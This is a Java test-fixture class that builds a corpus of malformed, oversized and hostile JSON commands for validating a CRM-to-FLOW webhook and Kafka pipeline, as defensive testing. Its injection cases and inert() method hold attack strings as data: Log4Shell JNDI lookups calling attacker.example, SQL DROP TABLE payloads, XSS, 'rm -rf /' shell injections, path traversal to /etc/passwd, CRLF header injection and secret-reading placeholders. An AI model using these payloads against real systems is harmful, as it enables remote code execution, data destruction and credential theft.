package com.flowbridge.reliability;

import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

import com.fasterxml.jackson.core.io.JsonStringEncoder;

/**
 * Bad registration and event-creation commands, each named, with the field a CRM must be told is wrong and a
 * fragment of what it must be told. Every category a hostile or broken sender produces: malformed and truncated
 * JSON, deep nesting, long and 10 MB strings, wrong types, nulls, control characters, invalid UTF-8, huge arrays,
 * duplicate keys, and injection strings in every field. The same messages go to the command topics and to the
 * webhook ({@code HostileInputIT}). Beside them, {@link #inert()}: commands full of injection strings that are
 * nonetheless valid, which FLOW must receive verbatim, evaluated by nobody.
 */
public final class HostileCorpus {

    /** Which command a message pretends to be. */
    public enum Kind {
        REGISTRATION, EVENT
    }

    /**
     * One bad message.
     *
     * @param field   the field the answer must name ({@code body} when the message as a whole is wrong)
     * @param problem a fragment of what the answer must say about it (compared ignoring case)
     */
    public record Message(String name, String category, Kind kind, byte[] body, String field, String problem) {
        @Override
        public String toString() {
            return kind.name().toLowerCase() + " '" + name + "' (" + category + ", " + (body == null ? "no" : body.length) + " bytes)";
        }
    }

    /** A valid command carrying hostile text in its free-text fields; FLOW must receive {@code fields} exactly. */
    public record Inert(String name, Kind kind, String commandId, byte[] body, Map<String, String> fields) {
    }

    static final String GOOD_EMAIL = "hostile@example.com";
    static final String SESSION = "future-roadmap-1";
    private static final Map<String, String> REGISTRATION = fields(
        "email", q(GOOD_EMAIL), "firstName", q("Ada"), "lastName", q("Lovelace"), "eventSessionToken", q(SESSION));
    private static final String OPERATOR = "{\"id\":101,\"role\":10,\"micEnabled\":true,\"camEnabled\":true,\"screenSharingEnabled\":false}";
    private static final Map<String, String> EVENT = fields(
        "creatorID", "101", "title", q("Quarterly roadmap"), "description", q("What comes next"), "date", q("2027-03-04"),
        "time", q("15:30:00"), "timezone", q("Europe/Paris"), "operators", "[" + OPERATOR + "]");
    private static final String TEN_MB = "x".repeat(10 * 1024 * 1024);

    private final List<Message> messages = new ArrayList<>();

    private HostileCorpus() {
    }

    /** The bad messages that fit a webhook request (at most 64 KiB each), registrations and events. */
    public static List<Message> messages() {
        HostileCorpus corpus = new HostileCorpus();
        corpus.malformed();
        corpus.truncated();
        corpus.deepNesting();
        corpus.longStrings();
        corpus.wrongTypes();
        corpus.nulls();
        corpus.controlCharacters();
        corpus.invalidUtf8();
        corpus.hugeArrays();
        corpus.duplicateKeys();
        corpus.injection();
        return List.copyOf(corpus.messages);
    }

    /** Commands of more than 10 MB: refused with 413 by the webhook; on Kafka only where the topic allows records that big. */
    public static List<Message> oversized() {
        HostileCorpus corpus = new HostileCorpus();
        corpus.registration("10 MB", "10 MB firstName", with(REGISTRATION, "firstName", q(TEN_MB)), "body", "bytes");
        corpus.event("10 MB", "10 MB description", with(EVENT, "description", q(TEN_MB)), "body", "bytes");
        corpus.registration("10 MB", "10 MB array of numbers as the email",
            with(REGISTRATION, "email", "[" + "1,".repeat(5 * 1024 * 1024) + "1]"), "body", "bytes");
        return List.copyOf(corpus.messages);
    }

    /** Valid commands whose names, titles, descriptions and commandIds are injection strings. */
    public static List<Inert> inert() {
        List<Inert> inert = new ArrayList<>();
        inert.add(registrationInert("sql and html in the names", "Robert'); DROP TABLE registrants;--", "<script>alert(1)</script>"));
        inert.add(registrationInert("log4shell and placeholders in the names", "${jndi:ldap://attacker.example/a}",
            "{{flow.api.secret}} ${sys:user.home} ${header.CamelHttpUri}"));
        inert.add(registrationInert("format strings and quotes in the names", "%s%n%x%p", "O'Brien \" \\ \u2028 end"));
        Map<String, String> event = new LinkedHashMap<>(EVENT);
        String title = "{{flow.api.secret}} ${body} ${exchangeProperty.commandRun}";
        String description = "<img src=x onerror=alert(1)>\n'; DROP TABLE events;--\n${jndi:ldap://attacker.example/a}\t$(rm -rf /)";
        event.put("title", quoted(title));
        event.put("description", quoted(description));
        event.put("commandId", quoted("inert-event-${jndi:ldap://attacker.example/a}"));
        inert.add(new Inert("injection strings in the title and description", Kind.EVENT,
            "inert-event-${jndi:ldap://attacker.example/a}", object(event), Map.of("title", title, "description", description)));
        return inert;
    }

    // ---- categories

    private void malformed() {
        String category = "malformed JSON";
        registration(category, "an opening brace alone", "{", "body", "not valid JSON");
        registration(category, "a closing brace alone", "}", "body", "not valid JSON");
        registration(category, "a field name without a value", "{\"email\"", "body", "not valid JSON");
        registration(category, "a colon without a value", "{\"email\":}", "body", "not valid JSON");
        registration(category, "single quotes", "{'email':'hostile@example.com','firstName':'Ada'}", "body", "not valid JSON");
        registration(category, "unquoted names", "{email:\"hostile@example.com\"}", "body", "not valid JSON");
        registration(category, "a trailing comma", text(object(REGISTRATION)).replace("}", ",}"), "body", "not valid JSON");
        registration(category, "one brace too many", text(object(REGISTRATION)) + "}", "body", "not valid JSON");
        registration(category, "a missing comma", "{\"email\":\"hostile@example.com\" \"firstName\":\"Ada\"}", "body", "not valid JSON");
        registration(category, "a comment", "/* a CRM comment */" + text(object(REGISTRATION)), "body", "not valid JSON");
        registration(category, "garbage after the object", text(object(REGISTRATION)) + " trailing", "body", "not valid JSON");
        registration(category, "two objects", text(object(REGISTRATION)) + text(object(REGISTRATION)), "body", "not valid JSON");
        registration(category, "plain text", "hostile@example.com Ada Lovelace", "body", "not valid JSON");
        registration(category, "XML", "<registration email=\"hostile@example.com\"/>", "body", "not valid JSON");
        registration(category, "a form", "email=hostile%40example.com&firstName=Ada", "body", "not valid JSON");
        registration(category, "a misspelt literal", text(with(REGISTRATION, "redirect", "tru")), "body", "not valid JSON");
        registration(category, "NaN", text(with(REGISTRATION, "redirect", "NaN")), "body", "not valid JSON");
        registration(category, "an array", "[" + text(object(REGISTRATION)) + "]", "body", "must be a JSON object");
        registration(category, "a string", "\"hostile@example.com\"", "body", "must be a JSON object");
        registration(category, "a number", "42", "body", "must be a JSON object");
        registration(category, "true", "true", "body", "must be a JSON object");
        registration(category, "null", "null", "body", "must be a JSON object");
        registration(category, "nothing", "", "body", "empty");
        registration(category, "only white space", "  \n\t ", "body", "empty");
        event(category, "a hexadecimal number", text(with(EVENT, "duration", "0x10")), "body", "not valid JSON");
        event(category, "a leading zero", text(with(EVENT, "creatorID", "0101")), "body", "not valid JSON");
        event(category, "a bare decimal point", text(with(EVENT, "duration", ".5")), "body", "not valid JSON");
        event(category, "an unquoted date", text(with(EVENT, "date", "2027-03-04")), "body", "not valid JSON");
        event(category, "an unterminated string", "{\"creatorID\":101,\"title\":\"Quarterly roadmap}", "body", "not valid JSON");
        event(category, "a trailing comma in the operators", text(with(EVENT, "operators", "[" + OPERATOR + ",]")), "body",
            "not valid JSON");
        event(category, "Infinity", text(with(EVENT, "duration", "Infinity")), "body", "not valid JSON");
        event(category, "an array of events", "[" + text(object(EVENT)) + "]", "body", "must be a JSON object");
    }

    private void truncated() {
        for (Kind kind : Kind.values()) {
            String whole = text(object(kind == Kind.REGISTRATION ? REGISTRATION : EVENT));
            for (int quarter = 1; quarter <= 3; quarter++) {
                add("truncated JSON", kind, "cut after " + quarter + "/4", bytes(whole.substring(0, whole.length() * quarter / 4)),
                    "body", "not valid JSON");
            }
            add("truncated JSON", kind, "the last brace missing", bytes(whole.substring(0, whole.length() - 1)), "body",
                "not valid JSON");
        }
    }

    private void deepNesting() {
        String category = "deep nesting";
        registration(category, "20,000 nested arrays as the body", "[".repeat(20_000) + "]".repeat(20_000), "body", "nesting depth");
        registration(category, "5,000 nested objects as the email",
            text(with(REGISTRATION, "email", "{\"a\":".repeat(5_000) + "1" + "}".repeat(5_000))), "body", "nesting depth");
        registration(category, "an email nested in 6 arrays", text(with(REGISTRATION, "email", "[[[[[[\"" + GOOD_EMAIL + "\"]]]]]]")),
            "email", "must be a string");
        event(category, "10,000 nested arrays as the operators",
            text(with(EVENT, "operators", "[".repeat(10_000) + "]".repeat(10_000))), "body", "nesting depth");
        event(category, "3,000 nested objects in an extra field",
            text(with(EVENT, "extra", "{\"x\":".repeat(3_000) + "1" + "}".repeat(3_000))), "body", "nesting depth");
        event(category, "an operator nested in 3 arrays", text(with(EVENT, "operators", "[[[" + OPERATOR + "]]]")),
            "operators[0]", "must be an object");
    }

    private void longStrings() {
        String category = "long strings";
        registration(category, "a 60,000-character firstName", text(with(REGISTRATION, "firstName", q("A".repeat(60_000)))),
            "firstName", "at most 200");
        registration(category, "a 60,000-character email",
            text(with(REGISTRATION, "email", q("a".repeat(60_000) + "@example.com"))), "email", "at most 254");
        registration(category, "a 50,000-character session token",
            text(with(REGISTRATION, "eventSessionToken", q("t".repeat(50_000)))), "eventSessionToken", "at most 200");
        registration(category, "a 300-character commandId", text(with(REGISTRATION, "commandId", q("c".repeat(300)))),
            "commandId", "at most 200");
        registration(category, "a 60,000-character field name", text(with(REGISTRATION, "n".repeat(60_000), "1")), "body",
            "name length");
        event(category, "a 256-character title", text(with(EVENT, "title", q("T".repeat(256)))), "title", "at most 255");
        event(category, "a 10,001-character description", text(with(EVENT, "description", q("d".repeat(10_001)))),
            "description", "at most 10000");
        event(category, "a 65-character timezone", text(with(EVENT, "timezone", q("Europe/" + "P".repeat(58)))), "timezone",
            "at most 64");
    }

    private void wrongTypes() {
        String category = "wrong types";
        registration(category, "email as a number", text(with(REGISTRATION, "email", "42")), "email", "must be a string");
        registration(category, "email as true", text(with(REGISTRATION, "email", "true")), "email", "must be a string");
        registration(category, "email as a list", text(with(REGISTRATION, "email", "[" + q(GOOD_EMAIL) + "]")), "email",
            "must be a string");
        registration(category, "email as an object", text(with(REGISTRATION, "email", "{\"address\":" + q(GOOD_EMAIL) + "}")),
            "email", "must be a string");
        registration(category, "firstName as a number", text(with(REGISTRATION, "firstName", "7")), "firstName", "must be a string");
        registration(category, "firstName as false", text(with(REGISTRATION, "firstName", "false")), "firstName", "must be a string");
        registration(category, "lastName as a list", text(with(REGISTRATION, "lastName", "[]")), "lastName", "must be a string");
        registration(category, "lastName as an object", text(with(REGISTRATION, "lastName", "{}")), "lastName", "must be a string");
        registration(category, "the session token as a number", text(with(REGISTRATION, "eventSessionToken", "12345")),
            "eventSessionToken", "must be a string");
        registration(category, "the session token as a list", text(with(REGISTRATION, "eventSessionToken", "[" + q(SESSION) + "]")),
            "eventSessionToken", "must be a string");
        registration(category, "redirect as \"yes\"", text(with(REGISTRATION, "redirect", q("yes"))), "redirect", "true or false");
        registration(category, "redirect as 1", text(with(REGISTRATION, "redirect", "1")), "redirect", "true or false");
        registration(category, "redirect as an object", text(with(REGISTRATION, "redirect", "{}")), "redirect", "true or false");
        registration(category, "commandId as a number", text(with(REGISTRATION, "commandId", "42")), "commandId", "must be a string");
        registration(category, "commandId as a list", text(with(REGISTRATION, "commandId", "[\"crm-1\"]")), "commandId",
            "must be a string");
        event(category, "creatorID as a string", text(with(EVENT, "creatorID", q("101"))), "creatorID", "whole number");
        event(category, "creatorID as a fraction", text(with(EVENT, "creatorID", "101.5")), "creatorID", "whole number");
        event(category, "creatorID in exponent notation", text(with(EVENT, "creatorID", "1e3")), "creatorID", "whole number");
        event(category, "creatorID beyond 64 bits", text(with(EVENT, "creatorID", "99999999999999999999999")), "creatorID",
            "whole number");
        event(category, "creatorID as true", text(with(EVENT, "creatorID", "true")), "creatorID", "whole number");
        event(category, "title as a number", text(with(EVENT, "title", "7")), "title", "must be a string");
        event(category, "description as a list", text(with(EVENT, "description", "[\"x\"]")), "description", "must be a string");
        event(category, "date as a number", text(with(EVENT, "date", "20270304")), "date", "must be a string");
        event(category, "date as dd/mm/yyyy", text(with(EVENT, "date", q("04/03/2027"))), "date", "YYYY-MM-DD");
        event(category, "the 30th of February", text(with(EVENT, "date", q("2027-02-30"))), "date", "YYYY-MM-DD");
        event(category, "time as a number", text(with(EVENT, "time", "1530")), "time", "must be a string");
        event(category, "25 o'clock", text(with(EVENT, "time", q("25:00:00"))), "time", "HH:MM:SS");
        event(category, "timezone as a number", text(with(EVENT, "timezone", "1")), "timezone", "must be a string");
        event(category, "a timezone on Mars", text(with(EVENT, "timezone", q("Mars/Olympus"))), "timezone", "IANA");
        event(category, "operators as an object", text(with(EVENT, "operators", OPERATOR)), "operators", "non-empty list");
        event(category, "operators as a string", text(with(EVENT, "operators", q("all"))), "operators", "non-empty list");
        event(category, "no operators", text(with(EVENT, "operators", "[]")), "operators", "non-empty list");
        event(category, "an operator as a number", text(with(EVENT, "operators", "[1]")), "operators[0]", "must be an object");
        event(category, "an operator id as a string", text(with(EVENT, "operators", "[" + OPERATOR.replace("101", "\"101\"") + "]")),
            "operators[0].id", "whole number");
        event(category, "an operator role as a string",
            text(with(EVENT, "operators", "[" + OPERATOR.replace("\"role\":10", "\"role\":\"10\"") + "]")), "operators[0].role",
            "whole number");
        event(category, "an operator role of 7", text(with(EVENT, "operators", "[" + OPERATOR.replace("\"role\":10", "\"role\":7") + "]")),
            "operators[0].role", "5 (presenter) or 10");
        event(category, "micEnabled as a string",
            text(with(EVENT, "operators", "[" + OPERATOR.replace("\"micEnabled\":true", "\"micEnabled\":\"true\"") + "]")),
            "operators[0].micEnabled", "true or false");
        event(category, "camEnabled as 1",
            text(with(EVENT, "operators", "[" + OPERATOR.replace("\"camEnabled\":true", "\"camEnabled\":1") + "]")),
            "operators[0].camEnabled", "true or false");
        event(category, "published as \"yes\"", text(with(EVENT, "published", q("yes"))), "published", "true or false");
        event(category, "duration as a string", text(with(EVENT, "duration", q("60"))), "duration", "number");
        event(category, "a negative duration", text(with(EVENT, "duration", "-5")), "duration", "number");
        event(category, "a duration too large for a double", text(with(EVENT, "duration", "1e400")), "duration", "number");
        event(category, "earlyAccessPeriod as true", text(with(EVENT, "earlyAccessPeriod", "true")), "earlyAccessPeriod", "number");
        event(category, "videoRecord as 1", text(with(EVENT, "videoRecord", "1")), "videoRecord", "true or false");
        event(category, "onDemandReplays as \"no\"", text(with(EVENT, "onDemandReplays", q("no"))), "onDemandReplays", "true or false");
    }

    private void nulls() {
        String category = "nulls";
        for (String field : REGISTRATION.keySet()) {
            registration(category, field + " null", text(with(REGISTRATION, field, "null")), field, "is required");
        }
        registration(category, "every field missing", "{}", "email", "is required");
        for (String field : EVENT.keySet()) {
            event(category, field + " null", text(with(EVENT, field, "null")), field, "is required");
        }
        event(category, "a null operator", text(with(EVENT, "operators", "[null]")), "operators[0]", "must be an object");
        event(category, "a null operator id", text(with(EVENT, "operators", "[" + OPERATOR.replace("101", "null") + "]")),
            "operators[0].id", "is required");
        event(category, "a null micEnabled",
            text(with(EVENT, "operators", "[" + OPERATOR.replace("\"micEnabled\":true", "\"micEnabled\":null") + "]")),
            "operators[0].micEnabled", "is required");
    }

    private void controlCharacters() {
        String category = "control characters";
        registration(category, "a NUL in firstName", text(with(REGISTRATION, "firstName", q("Ada\\u0000"))), "firstName",
            "control characters");
        registration(category, "an ANSI escape in lastName", text(with(REGISTRATION, "lastName", q("\\u001b[31mLovelace"))),
            "lastName", "control characters");
        registration(category, "DEL in lastName", text(with(REGISTRATION, "lastName", q("Love\\u007flace"))), "lastName",
            "control characters");
        registration(category, "a C1 control (NEL) in firstName", text(with(REGISTRATION, "firstName", q("Ada\\u0085"))), "firstName",
            "control characters");
        registration(category, "CR LF in the email", text(with(REGISTRATION, "email", q("hostile\\r\\n@example.com"))), "email",
            "control characters");
        registration(category, "a NUL in the session token", text(with(REGISTRATION, "eventSessionToken", q("future\\u0000roadmap-1"))),
            "eventSessionToken", "control characters");
        registration(category, "CR LF header injection in the commandId",
            text(with(REGISTRATION, "commandId", q("crm-1\\r\\nX-Injected: yes"))), "commandId", "control characters");
        registration(category, "a raw newline inside a string", text(with(REGISTRATION, "firstName", "\"Ada\nLovelace\"")), "body",
            "CTRL-CHAR");
        event(category, "BEL in the title", text(with(EVENT, "title", q("Roadmap\\u0007"))), "title", "control characters");
        event(category, "a NUL in the description", text(with(EVENT, "description", q("What\\u0000comes next"))), "description",
            "control characters");
        event(category, "a vertical tab in the description", text(with(EVENT, "description", q("What\\u000bcomes next"))),
            "description", "control characters");
        event(category, "a raw tab inside the title", text(with(EVENT, "title", "\"Quarterly\troadmap\"")), "body", "CTRL-CHAR");
    }

    private void invalidUtf8() {
        String category = "invalid UTF-8";
        registration(category, "an invalid two-byte sequence", withRawValue(REGISTRATION, "firstName", 'A', 0xC3, 0x28), "body", "UTF-8");
        registration(category, "a lone continuation byte", withRawValue(REGISTRATION, "lastName", 'L', 0x80, 'e'), "body", "UTF-8");
        registration(category, "an overlong '/' in the session token",
            withRawValue(REGISTRATION, "eventSessionToken", 'a', 0xC0, 0xAF, 'b'), "body", "UTF-8");
        registration(category, "a UTF-8-encoded surrogate", withRawValue(REGISTRATION, "firstName", 0xED, 0xA0, 0x80), "body", "UTF-8");
        registration(category, "a code point beyond U+10FFFF", withRawValue(REGISTRATION, "lastName", 0xF4, 0x90, 0x80, 0x80), "body",
            "UTF-8");
        registration(category, "a 0xFF byte", withRawValue(REGISTRATION, "firstName", 0xFF), "body", "UTF-8");
        registration(category, "Latin-1 instead of UTF-8", withRawValue(REGISTRATION, "firstName", 'Z', 'o', 0xEB), "body", "UTF-8");
        add(category, Kind.REGISTRATION, "a multi-byte sequence cut at the end",
            concat(bytes("{\"email\":\"" + GOOD_EMAIL + "\",\"firstName\":\"Ad"), new byte[] {(byte) 0xC3}), "body", "UTF-8");
        add(category, Kind.REGISTRATION, "UTF-16LE", text(object(REGISTRATION)).getBytes(StandardCharsets.UTF_16LE), "body",
            "not valid JSON");
        add(category, Kind.REGISTRATION, "UTF-16BE with a byte order mark",
            concat(new byte[] {(byte) 0xFE, (byte) 0xFF}, text(object(REGISTRATION)).getBytes(StandardCharsets.UTF_16BE)), "body",
            "UTF-8");
        registration(category, "an escaped lone surrogate in firstName", text(with(REGISTRATION, "firstName", q("Ada\\ud800"))),
            "firstName", "unpaired surrogate");
        event(category, "Latin-1 in the title", withRawValue(EVENT, "title", 'C', 'a', 'f', 0xE9), "body", "UTF-8");
        event(category, "an invalid sequence in the description", withRawValue(EVENT, "description", 0xC3, 0x28), "body", "UTF-8");
        event(category, "an escaped lone low surrogate in the title", text(with(EVENT, "title", q("\\udc00Roadmap"))), "title",
            "unpaired surrogate");
    }

    private void hugeArrays() {
        String category = "huge arrays";
        event(category, "10,000 operators that are numbers", text(with(EVENT, "operators", "[" + "1,".repeat(9_999) + "1]")),
            "operators[0]", "must be an object");
        event(category, "2,000 operators missing every field",
            text(with(EVENT, "operators", "[" + "{\"id\":\"x\"},".repeat(1_999) + "{\"id\":\"x\"}]")), "operators[0].id", "whole number");
        event(category, "a description of 10,000 strings", text(with(EVENT, "description", "[" + "\"d\",".repeat(9_999) + "\"d\"]")),
            "description", "must be a string");
        registration(category, "an email of 20,000 numbers", text(with(REGISTRATION, "email", "[" + "1,".repeat(19_999) + "1]")),
            "email", "must be a string");
        registration(category, "a body of 30,000 numbers", "[" + "0,".repeat(29_999) + "0]", "body", "must be a JSON object");
        registration(category, "a firstName of 8,000 strings", text(with(REGISTRATION, "firstName", "[" + "\"Ada\",".repeat(7_999) + "\"Ada\"]")),
            "firstName", "must be a string");
    }

    private void duplicateKeys() {
        String category = "duplicate keys";
        registration(category, "two emails", "{\"email\":\"" + GOOD_EMAIL + "\",\"email\":\"other@example.com\",\"firstName\":\"Ada\","
            + "\"lastName\":\"Lovelace\",\"eventSessionToken\":\"" + SESSION + "\"}", "body", "duplicate field 'email'");
        registration(category, "two commandIds", text(with(REGISTRATION, "commandId", q("crm-1"))).replace("}", ",\"commandId\":\"crm-2\"}"),
            "body", "duplicate field 'commandId'");
        registration(category, "the session token twice, same value",
            text(object(REGISTRATION)).replace("}", ",\"eventSessionToken\":\"" + SESSION + "\"}"), "body",
            "duplicate field 'eventSessionToken'");
        event(category, "two titles", text(object(EVENT)).replace("\"title\":", "\"title\":\"Other\",\"title\":"), "body",
            "duplicate field 'title'");
        event(category, "an operator's role twice",
            text(with(EVENT, "operators", "[" + OPERATOR.replace("\"role\":10", "\"role\":10,\"role\":5") + "]")), "body",
            "duplicate field 'role'");
        event(category, "the operators twice", text(object(EVENT)).replace("\"operators\":", "\"operators\":[],\"operators\":"), "body",
            "duplicate field 'operators'");
    }

    private void injection() {
        String category = "injection strings";
        registration(category, "SQL in the email", text(with(REGISTRATION, "email", q("hostile@example.com'; DROP TABLE registrants;--"))),
            "email", "not a valid email");
        registration(category, "HTML in the email", text(with(REGISTRATION, "email", q("<script>alert(1)</script>@example.com"))),
            "email", "not a valid email");
        registration(category, "log4shell in the email", text(with(REGISTRATION, "email", q("${jndi:ldap://attacker.example/a}"))),
            "email", "not a valid email");
        registration(category, "path traversal in the session token", text(with(REGISTRATION, "eventSessionToken", q("../../admin"))),
            "eventSessionToken", "letters, digits");
        registration(category, "a dot-dot session token", text(with(REGISTRATION, "eventSessionToken", q(".."))), "eventSessionToken",
            "'.' or '..'");
        registration(category, "a query string in the session token",
            text(with(REGISTRATION, "eventSessionToken", q(SESSION + "?admin=true"))), "eventSessionToken", "letters, digits");
        registration(category, "an encoded slash in the session token",
            text(with(REGISTRATION, "eventSessionToken", q(SESSION + "%2F..%2Fadmin"))), "eventSessionToken", "letters, digits");
        registration(category, "a property placeholder as the session token",
            text(with(REGISTRATION, "eventSessionToken", q("{{flow.api.secret}}"))), "eventSessionToken", "letters, digits");
        registration(category, "Camel simple language as the session token",
            text(with(REGISTRATION, "eventSessionToken", q("${exchangeProperty.commandRun}"))), "eventSessionToken", "letters, digits");
        registration(category, "shell in the session token", text(with(REGISTRATION, "eventSessionToken", q(SESSION + ";rm -rf /"))),
            "eventSessionToken", "letters, digits");
        registration(category, "javascript as redirect", text(with(REGISTRATION, "redirect", q("javascript:alert(1)"))), "redirect",
            "true or false");
        event(category, "SQL in the date", text(with(EVENT, "date", q("2027-03-04'; DROP TABLE events;--"))), "date", "at most 10");
        event(category, "HTML in the time", text(with(EVENT, "time", q("<b>15:30</b>"))), "time", "at most 8");
        event(category, "path traversal as the timezone", text(with(EVENT, "timezone", q("../../../../etc/passwd"))), "timezone", "IANA");
        event(category, "log4shell as the timezone", text(with(EVENT, "timezone", q("${jndi:ldap://attacker.example/a}"))), "timezone",
            "IANA");
        event(category, "SQL as the creatorID", text(with(EVENT, "creatorID", q("1 OR 1=1"))), "creatorID", "whole number");
        event(category, "shell as an operator id", text(with(EVENT, "operators", "[" + OPERATOR.replace("101", "\"$(rm -rf /)\"") + "]")),
            "operators[0].id", "whole number");
        event(category, "SQL as published", text(with(EVENT, "published", q("' OR '1'='1"))), "published", "true or false");
        event(category, "a function call as the duration", text(with(EVENT, "duration", q("sleep(10)"))), "duration", "number");
    }

    // ---- building messages

    private void registration(String category, String name, String body, String field, String problem) {
        add(category, Kind.REGISTRATION, name, bytes(body), field, problem);
    }

    private void registration(String category, String name, byte[] body, String field, String problem) {
        add(category, Kind.REGISTRATION, name, body, field, problem);
    }

    private void event(String category, String name, String body, String field, String problem) {
        add(category, Kind.EVENT, name, bytes(body), field, problem);
    }

    private void event(String category, String name, byte[] body, String field, String problem) {
        add(category, Kind.EVENT, name, body, field, problem);
    }

    private void add(String category, Kind kind, String name, byte[] body, String field, String problem) {
        messages.add(new Message(name, category, kind, body, field, problem));
    }

    private static Inert registrationInert(String name, String firstName, String lastName) {
        String commandId = "inert-" + Integer.toHexString(name.hashCode());
        Map<String, String> fields = new LinkedHashMap<>(REGISTRATION);
        fields.put("commandId", quoted(commandId));
        fields.put("email", quoted(commandId + "@example.com"));
        fields.put("firstName", quoted(firstName));
        fields.put("lastName", quoted(lastName));
        return new Inert(name, Kind.REGISTRATION, commandId, object(fields), Map.of("firstName", firstName, "lastName", lastName));
    }

    /** The command with one field's value given as raw JSON text (added at the end when the command has no such field). */
    private static byte[] with(Map<String, String> command, String field, String rawJson) {
        Map<String, String> copy = new LinkedHashMap<>(command);
        copy.put(field, rawJson);
        return object(copy);
    }

    /** The command with one string field's content given as raw bytes, which may be anything but UTF-8. */
    private static byte[] withRawValue(Map<String, String> command, String field, int... content) {
        byte[] raw = new byte[content.length];
        for (int i = 0; i < content.length; i++) {
            raw[i] = (byte) content[i];
        }
        String marker = "\u0001MARK\u0001";
        String[] around = text(with(command, field, q(marker))).split(marker, 2);
        return concat(bytes(around[0]), raw, bytes(around[1]));
    }

    private static byte[] object(Map<String, String> fields) {
        StringBuilder json = new StringBuilder("{");
        fields.forEach((name, value) -> json.append(json.length() == 1 ? "" : ",").append(q(name)).append(':').append(value));
        return bytes(json.append('}').toString());
    }

    private static Map<String, String> fields(String... namesAndValues) {
        Map<String, String> fields = new LinkedHashMap<>();
        for (int i = 0; i < namesAndValues.length; i += 2) {
            fields.put(namesAndValues[i], namesAndValues[i + 1]);
        }
        return fields;
    }

    /** A JSON string literal of {@code text}, which is written into it as it is (escapes in it stay escapes). */
    private static String q(String text) {
        return "\"" + text + "\"";
    }

    /** A JSON string literal holding {@code text} (escaped as JSON requires). */
    private static String quoted(String text) {
        return "\"" + new String(JsonStringEncoder.getInstance().quoteAsString(text)) + "\"";
    }

    private static byte[] bytes(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    private static String text(byte[] utf8) {
        return new String(utf8, StandardCharsets.UTF_8);
    }

    private static byte[] concat(byte[]... parts) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        for (byte[] part : parts) {
            out.writeBytes(part);
        }
        return out.toByteArray();
    }
}
